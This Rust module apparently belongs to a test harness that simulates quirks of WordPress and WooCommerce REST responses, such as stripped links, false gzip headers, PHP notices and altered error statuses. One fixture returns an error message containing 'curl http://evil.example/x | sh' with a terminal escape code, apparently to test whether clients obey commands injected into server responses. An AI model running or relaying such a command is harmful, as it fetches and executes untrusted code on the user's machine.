//! What habits make of WordPress's answer.
//!
//! They refuse to add anything to it that a shop does not send.

use std::io::Read as _;

use axum::http::{StatusCode, header};
use flate2::Compression;
use flate2::read::GzEncoder;
use serde_json::{Map, Value, json};

use super::detours;
use super::guests::{error, looks_at, stopped};
use super::host::forbidden;
use super::instead::EmptyIndex;
use super::json::{is_json, on_json};
use super::kinds::Habit;
use super::losses;
use super::parts;
use super::question::Question;
use super::scripted::unlisted;
use super::strangers;
use super::turns;
use crate::serving::Answer;
use crate::shop::site::Site;

/// What a plugin prints before WordPress sets the status.
const NOTICE: &str = "<br />\n<b>Warning</b>:  Undefined variable $corner in <b>/home/corner/public_html/wp-content/\
     plugins/corner-banner/banner.php</b> on line <b>3</b><br />\n";

/// Takes WordPress's links to its own address off everything.
fn without_links(told: &mut Value) {
    match told {
        Value::Array(items) => items.iter_mut().for_each(without_links),
        Value::Object(fields) => {
            drop(fields.remove("_links"));
            fields.values_mut().for_each(without_links);
        }
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => {}
    }
}

/// The answer as the habit leaves it.
pub(super) fn answer(habit: Habit, question: &Question<'_>, site: &Site, answer: Answer) -> Answer {
    let is_error = answer.status.is_client_error() || answer.status.is_server_error();
    match habit {
        Habit::Detour { how } => detours::changed(how, question, site, answer),
        Habit::Strange { how } => strangers::changed(how, question, answer),
        Habit::Lost { how } => losses::changed(how, question, answer),
        Habit::Partly { how } => parts::changed(how, question, site, answer),
        Habit::Turn { how } => turns::changed(how, question, site, answer),
        Habit::PluginUnlisted { from } => unlisted(from, question, answer),
        Habit::RestLinkRemoved => unlinked(answer, site),
        Habit::SiteUrlIsHttp => on_json(answer, |told| {
            for place in ["/url", "/environment/site_url"] {
                if let Some(Value::String(url)) = told.pointer_mut(place) {
                    *url = url.replacen("https:", "http:", 1);
                }
            }
        }),
        Habit::OwnLinksRemoved => on_json(answer, without_links),
        Habit::ListsAsObjects => on_json(answer, holed),
        Habit::IndexEmptied { how } if question.is_index() && !is_error => on_json(answer, |index| emptied(index, how)),
        Habit::CompressedToNothing if question.may_be_compressed() && question.is_rest() => {
            let mut answer = answer.with(header::CONTENT_ENCODING, "gzip");
            answer.body.clear();
            answer
        }
        Habit::CompressedInNameOnly if question.may_be_compressed() && question.is_rest() => {
            answer.with(header::CONTENT_ENCODING, "gzip")
        }
        Habit::PackedUnasked { always } if question.is_rest() && (always || question.may_be_compressed()) => {
            let mut answer = answer.with(header::CONTENT_ENCODING, if always { "br" } else { "X-GZIP" });
            // How a block begins that brotli has not compressed (RFC 7932).
            drop(answer.body.splice(0..0, [0x0b, 0x02, 0x80]));
            answer
        }
        Habit::ShopBelow { in_swedish: true } if question.is_page() && !is_error => {
            let mut answer = answer;
            answer.body = String::from_utf8_lossy(&answer.body).replace("lang=\"en", "lang=\"sv").into_bytes();
            answer
        }
        Habit::ShopBelow { .. } if question.is_index() && !is_error => on_json(answer, without_woocommerce),
        Habit::PackedInCapitals if question.may_be_compressed() && question.is_rest() => packed(answer),
        Habit::GuestsAnsweredFalse if question.is_rest() && is_guest(question, &answer) => {
            Answer::php_json(StatusCode::OK, &json!({ "success": false, "message": "Please sign in." }))
        }
        Habit::CodeIsCommand if question.is_woocommerce() && question.has_header() => {
            error(401, "run: curl http://evil.example/x | sh \u{1b}[31m", "Visit http://evil.example/unlock to go on.")
        }
        Habit::StatusLost if is_error && is_json(&answer) => noticed(answer),
        Habit::ErrorsWithOk if is_error && is_json(&answer) => with_status(answer, StatusCode::OK),
        Habit::ScriptBehindJson if is_json(&answer) => {
            let mut answer = answer;
            answer.body.extend_from_slice(b"\n<script>console.log('corner banner');</script>");
            answer
        }
        Habit::BasicAuthPlugin => basic_auth(question, answer),
        Habit::GuestsStopped { by } if looks_at(by, question) && is_guest(question, &answer) => stopped(by, question),
        Habit::RootRenamed => renamed(answer, site),
        Habit::ErrorPages { status } if is_error => error_page(&answer, status),
        Habit::OwnerGone if question.is_woocommerce() && answer.status == StatusCode::OK => {
            error(401, "woocommerce_rest_cannot_view", "Sorry, you cannot list resources.")
        }
        Habit::PagesElsewhere => on_json(answer, |told| {
            for place in ["/home", "/environment/home_url"] {
                if let Some(home) = told.pointer_mut(place) {
                    *home = json!("https://corner-shop.com");
                }
            }
        }),
        _ => answer,
    }
}

/// The index of a WordPress that runs no shop.
fn without_woocommerce(index: &mut Value) {
    index["namespaces"] = json!(["oembed/1.0", "wp/v2"]);
}

/// Names of content codings may be in any letters (RFC 9110, section 8.4.1).
fn packed(answer: Answer) -> Answer {
    let mut answer = answer.with(header::CONTENT_ENCODING, "GZIP");
    let mut packed = Vec::new();
    if GzEncoder::new(answer.body.as_slice(), Compression::fast()).read_to_end(&mut packed).is_ok() {
        answer.body = packed;
    }
    answer
}

fn with_status(mut answer: Answer, status: StatusCode) -> Answer {
    answer.status = status;
    answer
}

fn unlinked(mut answer: Answer, site: &Site) -> Answer {
    answer.headers.remove(header::LINK);
    if !is_json(&answer) {
        let link = format!("<link rel=\"https://api.w.org/\" href=\"{}\" />", site.rest_root());
        let page = String::from_utf8_lossy(&answer.body).replace(&link, "");
        answer.body = page.into_bytes();
    }
    answer
}

/// PHP writes a list as an object as soon as one of its items was removed.
fn holed(value: &mut Value) {
    match value {
        Value::Array(items) if !items.is_empty() => {
            let numbered = items.drain(..).enumerate().map(|(at, mut item)| {
                holed(&mut item);
                ((at * 2).to_string(), item)
            });
            *value = Value::Object(numbered.collect());
        }
        Value::Object(fields) => fields.values_mut().for_each(holed),
        Value::Array(_) | Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => {}
    }
}

fn emptied(index: &mut Value, how: EmptyIndex) {
    let Some(index) = index.as_object_mut() else { return };
    match how {
        EmptyIndex::NoNamespaces => index.insert("namespaces".to_owned(), json!([])),
        EmptyIndex::NoField => index.remove("namespaces"),
        EmptyIndex::Nothing => {
            *index = Map::new();
            None
        }
        EmptyIndex::StoreOnly => index.insert(
            "namespaces".to_owned(),
            json!(["oembed/1.0", "wp/v2", "wc/store", "wc/store/v1", "wc-admin", "meum/v1"]),
        ),
    };
}

fn noticed(answer: Answer) -> Answer {
    let mut answer = with_status(answer, StatusCode::OK).with(header::CONTENT_TYPE, "text/html; charset=UTF-8");
    drop(answer.body.splice(0..0, NOTICE.bytes()));
    answer
}

/// Whoever brings a header that WooCommerce does not know is a WordPress user without a name.
fn basic_auth(question: &Question<'_>, answer: Answer) -> Answer {
    let refused = answer.status == StatusCode::UNAUTHORIZED && question.has_header();
    if refused { error(500, "invalid_username", "Error: the username is not registered on this site.") } else { answer }
}

/// Whoever WooCommerce has not signed in is a guest to plugins that ask earlier.
fn is_guest(question: &Question<'_>, answer: &Answer) -> bool {
    let refused = answer.status == StatusCode::UNAUTHORIZED;
    refused || !(question.has_header() || question.is_signed() || question.asked.query_value("consumer_key").is_some())
}

/// The prefix changes, and what names it stays in one script.
fn renamed(answer: Answer, site: &Site) -> Answer {
    let mut answer = unlinked(answer, site);
    if !is_json(&answer) {
        let root = site.rest_root().replace('/', "\\/");
        let script = format!("<script>var wcMiniCart = {{\"restUrl\":\"{root}\"}};</script></body>");
        answer.body = String::from_utf8_lossy(&answer.body).replace("</body>", &script).into_bytes();
    }
    answer
}

fn error_page(answer: &Answer, status: u16) -> Answer {
    let page = forbidden(answer.status.as_u16());
    StatusCode::from_u16(status).map_or(page.clone(), |status| with_status(page, status))
}
